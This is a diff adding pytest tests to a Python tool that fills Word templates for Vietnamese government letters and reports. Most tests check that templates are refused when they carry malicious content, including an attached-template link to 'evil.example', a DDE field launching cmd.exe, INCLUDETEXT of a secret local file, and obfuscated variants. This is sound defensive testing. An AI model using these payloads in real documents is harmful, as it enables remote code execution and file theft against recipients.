@@ -16,8 +16,10 @@ from hypothesis import strategies as st
 
 from postwatch.documents.fill import Template, plain, shipped_template, template_bytes
 from postwatch.documents.layout import build_template
+from postwatch.documents.package import may_reach
 from postwatch.documents.proof import flaws
 from postwatch.documents.qr import png
+from postwatch.documents.typeface import width
 from postwatch.errors import DocumentError, NotFoundError
 
 NAMES = ["dispatch/letter", "dispatch/sheet", "pledge/form", "followup/letter", "report/monthly"]
@@ -378,6 +380,324 @@ def test_a_template_that_reaches_outside_is_refused(part: str, old: str, new: st
         Template(docx)
 
 
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+ELSEWHERE = "http://evil.example/x.dotm"
+RELATIONS = "word/_rels/document.xml.rels"
+
+
+def with_relation(xml: str) -> bytes:
+    return with_part(
+        build_template("paragraph: x"),
+        RELATIONS,
+        lambda rels: rels.replace("</Relationships>", f"{xml}</Relationships>"),
+    )
+
+
+def with_runs(xml: str) -> bytes:
+    return with_document("THERE", lambda body: body.replace("<w:r>", f"{xml}<w:r>", 1))
+
+
+def code_of(text: str) -> str:
+    """A field as Word writes it: its code between the signs of its begin and its end."""
+    begin, end = (f'<w:r><w:fldChar w:fldCharType="{sign}"/></w:r>' for sign in ("begin", "end"))
+    return f"{begin}<w:r><w:instrText>{text}</w:instrText></w:r>{end}"
+
+
+@pytest.mark.parametrize(
+    ("xml", "said"),
+    [
+        (f'<Relationship Id="r9" Type="{OFFICE}/attachedTemplate" Target="{ELSEWHERE}" TargetMode="External">'
+         "</Relationship>", "fetches another file"),
+        (f"<Relationship Id='r9' Type='{OFFICE}/attachedTemplate' Target='{ELSEWHERE}' TargetMode='External'/>",
+         "fetches another file"),
+        (f'<a:Relationship xmlns:a="http://schemas.openxmlformats.org/package/2006/relationships" Id="r9" '
+         f'Type="{OFFICE}/image" Target="{ELSEWHERE}" TargetMode="&#69;xternal"/>', "fetches another file"),
+        (f'<Relationship Id="r9" Type="{OFFICE}/image" Target="{ELSEWHERE}" TargetMode="external"/>', "fetches"),
+        (f'<Relationship Id="r9" Type="{OFFICE}/image" Target="{ELSEWHERE}"/>', "fetches another file"),
+        (f'<Relationship Id="r9" Type="{OFFICE}/image" Target="\\\\host\\x.png"/>', "fetches another file"),
+        ('<Relationship Id="r9" Type="http://x/hyperlink" Target="http://x" TargetMode="External"/>', "fetches"),
+        (f'<Relationship Id="r9" Type="{OFFICE}/frame" Target="x.htm"/>', "fetches another file"),
+        (f'<Relationship Id="r9" Type="{OFFICE}/aFChunk" Target="x.htm"/>', "macros or an embedded object"),
+        (f'<Relationship Id="r9" Type="{OFFICE}/oleObject" Target="x.ole"/>', "macros or an embedded object"),
+        (f'<Relationship Id="r9" Type="{OFFICE}/package" Target="x.xlsx"/>', "macros or an embedded object"),
+        (f'<Relationship Id="r9" Type="{OFFICE}/control" Target="activeX1.xml"/>', "macros or an embedded object"),
+        ('<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+         'Target="x.dat"/>', "macros or an embedded object"),
+    ],
+)  # fmt: skip
+def test_a_relation_that_reaches_outside_is_refused_however_it_is_written(xml: str, said: str) -> None:
+    with pytest.raises(DocumentError, match=said):
+        Template(with_relation(xml))
+
+
+@pytest.mark.parametrize(
+    "kind",
+    ["application/vnd.ms-office.vbaProject", "application/vnd.openxmlformats-officedocument.oleObject",
+     "application/vnd.ms-office.activeX+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"],
+)  # fmt: skip
+def test_a_part_that_is_a_program_is_refused_whatever_its_name(kind: str) -> None:
+    part = f'<Override PartName="/word/x.dat" ContentType="{kind}"/></Types>'
+    docx = with_part(build_template("paragraph: x"), "[Content_Types].xml", lambda xml: xml.replace("</Types>", part))
+    with pytest.raises(DocumentError, match="macros or an embedded object"):
+        Template(docx)
+
+
+@pytest.mark.parametrize(
+    "xml",
+    [
+        code_of('includetext "C:\\secret.docx"'),
+        code_of('INCLUDE&#84;EXT "C:\\secret.docx"'),
+        code_of('INCLUDE<!-- x -->TEXT "C:\\secret.docx"'),
+        code_of('DdeAuto c:\\windows\\system32\\cmd.exe "/k calc"'),
+        code_of("DD</w:instrText></w:r><w:r><w:instrText>E c:\\cmd.exe"),
+        code_of("PAGE") + code_of("DDE c:\\cmd.exe"),
+        code_of("PAGE").removesuffix('<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+        + code_of("IncludePicture http://evil.example/x.png"),
+        code_of(f"IF 1 = 1 {code_of('LINK Excel.Sheet.12 x.xlsx')}"),
+        code_of("{{ x }} c:\\cmd.exe"),
+        code_of("DATABASE \\d x.mdb"),
+        code_of("MACROBUTTON x y"),
+        code_of("<w:tab/>DDE x"),
+        '<w:fldSimple w:instr=" rd c:\\secret.docx "><w:r><w:t>x</w:t></w:r></w:fldSimple>',
+        "<w:fldSimple w:instr='import c:\\x.png'/>",
+        '<v:instrText xmlns:v="http://purl.oclc.org/ooxml/wordprocessingml/main">embed x</v:instrText>',
+    ],
+)
+def test_a_field_that_fetches_or_runs_something_is_refused_however_it_is_written(xml: str) -> None:
+    with pytest.raises(DocumentError, match="a field that reads another file"):
+        Template(with_runs(xml))
+    assert may_reach(xml.encode()), "a filled document with it is looked at again"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [" PAGE ", "page \\* MERGEFORMAT", "NUMPAGES", "DATE \\@ &quot;dd/MM/yyyy&quot;", "= 1 + 1", " ",
+     "HYPERLINK &quot;http://x/import/dde&quot;", "REF link \\h", f"IF {code_of('PAGE')} = 1 a b"],
+)  # fmt: skip
+def test_a_field_that_prints_only_is_no_danger(code: str) -> None:
+    docx = Template(with_runs(code_of(code))).render({}, title="t")
+    assert texts(docx) == ["THERE"]
+
+
+@pytest.mark.parametrize(
+    "xml",
+    [
+        '<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId1"/>'
+        "</w:drawing></w:r>",
+        '<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://x/y.png"/></w:pict></w:r>',
+        '<w:subDoc r:id="rId1"/>',
+        '<w:altChunk r:id="rId1"/>',
+        '<w:r><w:object/></w:r>',
+    ],
+)  # fmt: skip
+def test_an_element_that_stands_for_another_file_is_refused(xml: str) -> None:
+    with pytest.raises(DocumentError, match=r"fetches another file|embedded object"):
+        Template(with_runs(xml))
+    assert may_reach(xml.encode())
+
+
+@pytest.mark.parametrize(
+    ("part", "old", "new", "said"),
+    [
+        ("word/styles.xml", "UTF-8", "windows-1258", "is not UTF-8"),
+        ("word/settings.xml", "</w:settings>", "", "is not whole XML"),
+        ("docProps/app.xml", "<Properties", "<!DOCTYPE x SYSTEM 'http://x/y'><Properties", "declares entities"),
+        ("word/settings.xml", "</w:settings>", "<a>" * 300 + "</a>" * 300 + "</w:settings>", "more than a letter"),
+    ],
+)
+def test_a_part_that_another_reader_would_read_otherwise_is_refused(part: str, old: str, new: str, said: str) -> None:
+    docx = with_part(build_template("paragraph: x"), part, lambda xml: re.sub(old, new, xml, count=1, flags=re.I))
+    with pytest.raises(DocumentError, match=said):
+        Template(docx)
+
+
+def test_xml_under_another_name_is_read_too() -> None:
+    out = io.BytesIO(build_template("paragraph: x"))
+    with zipfile.ZipFile(out, "a") as package:
+        package.writestr("word/other.dat", f"<w:p xmlns:w='w'><w:instrText>{'DDE x'}</w:instrText></w:p>")
+    with pytest.raises(DocumentError, match="a field that reads another file"):
+        Template(out.getvalue())
+
+
+def test_links_that_a_clerk_wrote_stay_beside_those_of_the_facts(facts: Facts) -> None:
+    """However the relations are written."""
+    link = '<Relationship Id="r9" Type="{}/hyperlink" Target="http://sttt.vn" TargetMode="External"></Relationship>'
+    changed = with_part(
+        template_bytes("dispatch/letter"),
+        RELATIONS,
+        lambda xml: xml.replace('"', "'").replace("</Relationships>", f"{link.format(OFFICE)}</Relationships>"),
+    )
+    docx = Template(changed).render(facts["dispatch/letter"], title="t")
+    with zipfile.ZipFile(io.BytesIO(docx)) as package:
+        assert b'Target="http://sttt.vn"' in package.read(RELATIONS)
+    assert [link.address for p in Document(io.BytesIO(docx)).paragraphs for link in p.hyperlinks] == [
+        "http://sttt.langson.gov.vn/"
+    ]
+
+
+# -- what is no text ---------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("tag", "field", "kind"),
+    [
+        ("{{ names }}", "names", "a list"),
+        ("{{ unit }}", "unit", "a group of fields"),
+        ("{{ unit.head }}", "unit.head", "nothing"),
+        ("{{ unit.is_open }}", "unit.is_open", "yes or no"),
+        ("{{ names|upper }}", "names", "a list"),
+        ("{{ unit|trim }}", "unit", "a group of fields"),
+        ("{{ names ~ '.' }}", "names", "a list"),
+        ("{{ rows|join(', ') }}", "?", "a group of fields"),
+        ("{{ (names + names)|upper }}", "?", "a list"),
+        ("{{ names[:1] }}", "?", "a list"),
+        ("{% for row in rows %}{{ row }}{% endfor %}", "rows[]", "a group of fields"),
+        ("{{ unit.items }}", "?", "builtin_function_or_method"),
+    ],
+)
+def test_what_is_no_text_is_never_printed(tag: str, field: str, kind: str) -> None:
+    facts = {"names": ["Phòng A"], "unit": {"head": None, "is_open": True}, "rows": [{"no": 1}]}
+    with pytest.raises(DocumentError) as refused:
+        one_line(f"Gửi {tag}").render(facts, title="t")
+    assert f"prints {field}, which is no text but {kind}" in refused.value.message
+
+
+@pytest.mark.parametrize("tag", ["{{ none }}", "{{ true }}", "{{ 1.5 }}"])
+def test_a_constant_that_is_no_text_is_refused(tag: str) -> None:
+    with pytest.raises(DocumentError, match="but not Output"):
+        one_line(tag)
+
+
+def test_text_and_numbers_are_printed_by_every_filter() -> None:
+    facts = {"x": "Sở", "n": 7, "names": ["a", "b"]}
+    tags = "{{ n }} {{ x ~ n }} {{ names|join(', ') }} {{ n|upper }} {{ x|lower|trim }} {{ names|length }}"
+    assert texts(one_line(tags).render(facts, title="t")) == ["7 Sở7 a, b 7 sở 2"]
+
+
+@pytest.mark.parametrize(
+    ("tag", "said"),
+    [
+        ("{% for n in names %}{{ loop.indx }}{% endfor %}", "no field loop.indx"),
+        ("{% for n in names %}{{ loop.depth }}{% endfor %}", "no field loop.depth"),
+        ("{% for n in names %}{{ loop }}{% endfor %}", "may not reach loop"),
+        ("{% for n in names recursive %}{{ n }}{% endfor %}", "but not recursive"),
+    ],
+)
+def test_a_loop_counts_and_does_nothing_else(tag: str, said: str) -> None:
+    with pytest.raises(DocumentError, match=said):
+        one_line(tag)
+
+
+# -- what stands on the paragraph of a tag -----------------------------------------------------------------------------
+
+PICTURE = '<w:r><w:drawing><wp:inline xmlns:wp="wp"/></w:drawing></w:r>'
+
+
+def test_the_end_of_a_section_on_the_paragraph_of_a_tag_stays(facts: Facts) -> None:
+    """Where LibreOffice puts it when it saves a template; without it the annex begins under the signature."""
+
+    def hang(xml: str) -> str:
+        own = re.search(r'<w:p><w:pPr><w:pStyle w:val="CuoiPhan"/>(<w:sectPr>.*?</w:sectPr>)</w:pPr></w:p>', xml)
+        assert own is not None
+        before = '<w:p><w:r><w:t xml:space="preserve">{%p if appendix_done %}'
+        return xml.replace(own[0], "", 1).replace(before, before.replace("<w:p>", f"<w:p><w:pPr>{own[1]}</w:pPr>"), 1)
+
+    changed = Template(with_part(template_bytes("followup/letter"), "word/document.xml", hang))
+    shipped = Template(template_bytes("followup/letter"))
+    for without in ({}, {"appendix_done": None}, {"appendix_done": None, "appendix_missing": None}):
+        ours, theirs = (
+            Document(io.BytesIO(one.render(facts["followup/letter"] | without, title="t")))
+            for one in (changed, shipped)
+        )
+        assert [p.text for p in ours.paragraphs if p.text] == [p.text for p in theirs.paragraphs if p.text]
+        assert [_words_before_break(ours)] == [_words_before_break(theirs)]
+
+
+def _words_before_break(document: Any) -> list[str]:
+    """The last words before each end of a section."""
+    found, last = [], ""
+    for element in document.element.body.iter(qn("w:t"), qn("w:sectPr")):
+        if element.tag == qn("w:sectPr"):
+            found.append(last)
+        last = element.text or last
+    return found
+
+
+@pytest.mark.parametrize(
+    ("beside", "kept"),
+    [
+        ('<w:r><w:br w:type="page"/></w:r>', "w:br"),
+        (PICTURE, "w:drawing"),
+        ("<w:r><w:pict/></w:r>", "w:pict"),
+        (f'<mc:AlternateContent xmlns:mc="mc">{PICTURE}</mc:AlternateContent>', "w:drawing"),
+    ],
+)
+def test_a_picture_or_a_page_break_beside_a_tag_stays(beside: str, kept: str) -> None:
+    body = f"<w:p>{beside}<w:r><w:t>{{%p if x %}}</w:t></w:r></w:p><w:p><w:r><w:t>y</w:t></w:r></w:p>"
+    body += "<w:p><w:r><w:t>{%p endif %}</w:t></w:r></w:p><w:p>"
+    template = Template(with_document("THERE", lambda xml: xml.replace("<w:body><w:p>", f"<w:body>{body}", 1)))
+    for x, count in ((1, 1), (0, 0)):
+        document = Document(io.BytesIO(template.render({"x": x}, title="t")))
+        assert len(document.element.findall(f".//{qn(kept)}")) == count
+        assert [p.text.strip() for p in document.paragraphs if p.text.strip()] == ["y", "THERE"][1 - x :]
+
+
+def test_a_page_that_begins_with_a_tag_begins_with_what_follows_it() -> None:
+    tags = "<w:p><w:pPr><w:pStyle w:val='x'/><w:pageBreakBefore/></w:pPr><w:r><w:t>{%p if x %}</w:t></w:r></w:p>"
+    tags += "<w:p><w:r><w:t>{%p endif %}</w:t></w:r></w:p><w:p>"
+    template = Template(with_document("THERE", lambda xml: xml.replace("<w:body><w:p>", f"<w:body>{tags}", 1)))
+    document = Document(io.BytesIO(template.render({"x": 1}, title="t")))
+    properties = document.paragraphs[0]._p.pPr
+    assert [one.tag for one in properties] == [qn("w:pageBreakBefore"), qn("w:spacing"), qn("w:rPr")]
+
+
+# -- grids -------------------------------------------------------------------------------------------------------------
+
+
+def grid_of(columns: list[str], rows: list[list[str]]) -> list[int]:
+    docx = Template(build_template("grid: g")).render({"g": {"columns": columns, "rows": rows}}, title="t")
+    grid = Document(io.BytesIO(docx)).tables[0]._tbl.tblGrid
+    return [int(column.get(qn("w:w"))) for column in grid.iter(qn("w:gridCol"))]
+
+
+def test_cells_of_a_grid_have_no_width_of_their_own() -> None:
+    def fix(xml: str) -> str:
+        return xml.replace('<w:tcW w:w="0" w:type="auto"/>', '<w:tcW w:type="dxa" w:w="1328"/>')
+
+    docx = Template(with_part(build_template("grid: g"), "word/document.xml", fix)).render(
+        {"g": {"columns": ["a", "b"], "rows": [["1", "c"]]}}, title="t"
+    )
+    widths = {cell.get(qn("w:w")) for cell in Document(io.BytesIO(docx)).element.iter(qn("w:tcW"))}
+    assert widths == {"0"}
+
+
+def test_one_long_word_takes_a_third_of_the_page_and_no_more() -> None:
+    columns = ["STT", "Đơn vị", "Địa bàn", "Nội dung còn thiếu"]
+    widths = grid_of(columns, [["1", "x" * 100, "Thành phố Lạng Sơn", "chưa gửi báo cáo; chưa ký cam kết " * 3]])
+    assert sum(widths) == 9298
+    assert widths[0] >= width("STT", 12, bold=True)
+    assert widths[2] >= width("Thành phố Lạng Sơn", 12)
+    assert 9298 // 3 <= widths[1] <= 9298 // 2
+
+
+def test_a_name_has_what_the_numbers_beside_it_do_not_need(facts: Facts) -> None:
+    annex = facts["report/monthly"]["appendix"]
+    columns = ["STT", "Địa bàn", "Số đơn vị", "Đã nhận văn bản", "Đề nghị ký cam kết", "Đã ký cam kết", "Tỷ lệ (%)",
+               "Lượt kiểm tra", "Hành vi vi phạm", "Nhiệm vụ quá hạn"]  # fmt: skip
+    widths = grid_of(columns, [[str(n), "Huyện Tràng Định", *["120"] * 8] for n in range(len(annex["rows"]))])
+    assert sum(widths) == 9298
+    assert widths[1] >= width("Huyện Tràng Định", 12) + 140, "on one line, with the padding of its cell"
+    for heading, one in zip(columns, widths, strict=True):
+        assert one >= max(width(word, 12, bold=True) for word in heading.split()) + 140
+
+
+def test_many_wide_columns_share_the_page_and_the_narrow_ones_keep_theirs() -> None:
+    widths = grid_of(["STT", *"abcd"], [["1", *["x" * 40] * 4]])
+    assert sum(widths) == 9298
+    assert widths[0] >= width("STT", 12, bold=True)
+    assert max(widths[1:]) - min(widths[1:]) <= 4
+
+
 def test_the_template_of_the_workspace_wins(tmp_path: Any) -> None:
     own = tmp_path / "templates" / "dispatch" / "letter.docx"
     own.parent.mkdir(parents=True)
@@ -390,3 +710,24 @@ def test_the_template_of_the_workspace_wins(tmp_path: Any) -> None:
 def test_an_unknown_template_is_not_found(name: str, tmp_path: Any) -> None:
     with pytest.raises(NotFoundError):
         shipped_template(name, tmp_path)
+
+
+@pytest.mark.parametrize("ending", ["docx", "j2"])
+def test_a_link_that_leaves_the_folder_is_refused_and_never_passed_over(ending: str, tmp_path: Any) -> None:
+    folder, outside = tmp_path / "ws" / "templates" / "pledge", tmp_path / f"form.{ending}"
+    folder.mkdir(parents=True)
+    outside.write_bytes(build_template("paragraph: {{ x }}") if ending == "docx" else b"paragraph: {{ x }}")
+    (folder / f"form.{ending}").symlink_to(outside)
+    with pytest.raises(DocumentError, match=rf"pledge/form\.{ending} is a link that leaves the folder"):
+        shipped_template("pledge/form", tmp_path / "ws")
+    outside.unlink()
+    with pytest.raises(DocumentError, match=r"pledge/form\."):
+        shipped_template("pledge/form", tmp_path / "ws")
+
+
+def test_a_link_within_the_folder_is_followed(tmp_path: Any) -> None:
+    folder = tmp_path / "templates" / "pledge"
+    folder.mkdir(parents=True)
+    (folder / "form-2020.docx").write_bytes(build_template("paragraph: Riêng {{ x }}"))
+    (folder / "form.docx").symlink_to("form-2020.docx")
+    assert texts(shipped_template("pledge/form", tmp_path).render({"x": "của Sở"}, title="t")) == ["Riêng của Sở"]
